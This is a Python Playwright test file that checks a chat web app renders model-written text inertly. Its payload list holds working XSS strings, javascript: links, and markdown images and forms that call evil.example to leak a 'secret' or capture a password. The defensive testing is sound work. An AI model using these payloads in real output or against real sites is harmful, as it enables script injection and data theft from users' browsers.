"""What a model writes can show itself and nothing else: no script, no request, no style, no disguise."""

import pytest
from playwright.sync_api import Page, expect

from tests.web.chatting import answers, open_new, prose, say

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "image with a handler": "<img src=x onerror=alert(1)>",
    "image that tells": "![weather](https://evil.example/?q=secret)",
    "image by reference": "![x][1]\n\n[1]: https://evil.example/?q=secret",
    "image as data": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "link that runs": "[click](javascript:alert(1))",
    "link that runs, in capitals": "[click](JaVaScRiPt:alert(1))",
    "link that runs, by entities": "[click](&#106;avascript&colon;alert(1))",
    "link to data": "[click](data:text/html,<script>alert(1)</script>)",
    "link without a scheme": "[click](//evil.example/x)",
    "autolink that runs": "<javascript:alert(1)>",
    "handler": '<p onclick="alert(1)" onmouseover="alert(2)">hover</p>',
    "style": '<div style="position:fixed;inset:0;background:url(https://evil.example/)">x</div>',
    "style sheet": "<style>@import 'https://evil.example/x.css'; * {display: none}</style>",
    "frame": '<iframe src="https://evil.example/" srcdoc="<script>alert(1)</script>"></iframe>',
    "form": '<form action="https://evil.example/"><input name="password"><button>go</button></form>',
    "svg": "<svg><script>alert(1)</script><animate onbegin=alert(2)></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "fence": "```html\n<script>alert(1)</script>\n```",
    "language": '```"><script>alert(1)</script>\nx\n```',
    "link title": '[x](https://example.com "onmouseover=alert(1)")',
    "quote in an address": '[x](https://example.com/"onmouseover="alert(1))',
    "base": '<base href="https://evil.example/"><a href="x">x</a>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "template": "<template><img src=x onerror=alert(1)></template>",
    "id of ours": '<div id="config" data-scroller>x</div>',
    "table": "| a |\n| --- |\n| <img src=x onerror=alert(1)> ![y](https://evil.example/t) |",
    "comment": "<!-- --><img src=x onerror=alert(1)>-->",
    "object": '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
    "preload": '<link rel="preload" as="image" href="https://evil.example/x">',
}
FORBIDDEN = "script, img, iframe, style, form, input, object, embed, link, meta, base, math, template, video, audio"
ANOTHER = """node => {
    const bad = [];
    for (const one of node.querySelectorAll("*")) {
        for (const {name, value} of one.attributes) {
            if (name.startsWith("on") || name === "style" || name === "srcset") bad.push(`${name}=${value}`);
            if (name === "src" || name === "action" || name === "background") bad.push(`${name}=${value}`);
            if (name === "href" && !/^(https?:|mailto:|#|\\/(?!\\/))/.test(value)) bad.push(`${name}=${value}`);
            if (name === "id" || (name.startsWith("data-") && one.localName !== "svg")) bad.push(`${name}=${value}`);
        }
        if (one.localName === "a" && !one.relList.contains("noreferrer")) bad.push("a link that tells where from");
    }
    return bad;
}"""


@pytest.mark.parametrize("name", PAYLOADS)
def test_hostile_text_is_inert(page: Page, name: str):
    open_new(page, "assistant")
    say(page, PAYLOADS[name])
    expect(answers(page, "done")).to_be_visible()
    assert prose(page).locator(FORBIDDEN).count() == 0
    assert prose(page).evaluate(ANOTHER) == []


def test_link_says_where_it_leads(page: Page):
    open_new(page, "assistant")
    say(page, "[your bank](https://evil.example/login)")
    link = prose(page).get_by_role("link")
    expect(link).to_contain_text("evil.example")
    expect(link).to_have_attribute("target", "_blank")


def test_hostile_title_is_text_in_the_list(page: Page):
    open_new(page, "assistant")
    say(page, "<img src=x onerror=alert(1)>")
    expect(page.locator("[data-chats] [aria-current=page]")).to_have_text("<img src=x onerror=alert(1)>")
    expect(page.locator("[data-title]")).to_have_text("<img src=x onerror=alert(1)>")
